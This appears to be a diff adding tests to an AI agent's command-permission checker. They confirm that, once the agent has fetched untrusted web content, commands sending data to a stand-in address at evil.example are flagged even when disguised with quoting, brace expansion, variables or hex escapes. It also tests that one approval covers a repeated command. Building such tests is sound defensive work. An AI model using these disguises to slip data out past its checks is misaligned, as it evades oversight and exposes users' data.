@@ -614,6 +614,31 @@ async def test_commands_without_walls_ask(tmp_path: Path) -> None:
         assert check.verdict == "allow", "what only prints sends nothing"
 
 
+HIDDEN = [
+    './report mallory@evil.exam""ple', r"./report mallory@\evil.example", "./report mallory@ev{i,}l.example",
+    "X=evil; ./report mallory@$X.example", r"./report $'mallory@\x65vil.example'",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("command", HIDDEN)
+async def test_quotes_braces_and_variables_of_a_command_hide_no_value(tmp_path: Path, command: str) -> None:
+    settings = load_settings(tmp_path, flags={"sandbox.backend": "none", "mode": "autonomous"})
+    async with Toolbox.open(settings=settings, tools=TOOLS) as box:
+        await box.call("fetch", {"url": "https://blog.example/"})
+        check = await box.check("exec", {"command": command})
+        assert check.rule == "labels:default" and "evil.example" in check.reason
+
+
+async def test_a_yes_to_a_command_counts_for_it_in_the_session(tmp_path: Path) -> None:
+    command, person = {"command": 'true mallory@evil.exam""ple; ./report'}, FakeApprover("yes")
+    settings = load_settings(tmp_path, flags={"sandbox.backend": "none", "mode": "autonomous"})
+    async with Toolbox.open(settings=settings, tools=TOOLS, approve=person) as box:
+        await box.call("fetch", {"url": "https://blog.example/"})
+        await box.call("exec", command)
+        await box.call("exec", command)
+    assert len(person.requests) == 1
+
+
 async def test_what_a_command_fetched_is_untrusted(tmp_path: Path) -> None:
     settings = load_settings(tmp_path, flags={"sandbox.backend": "none", "mode": "autonomous"})
     async with Toolbox.open(settings=settings, tools=TOOLS) as box:
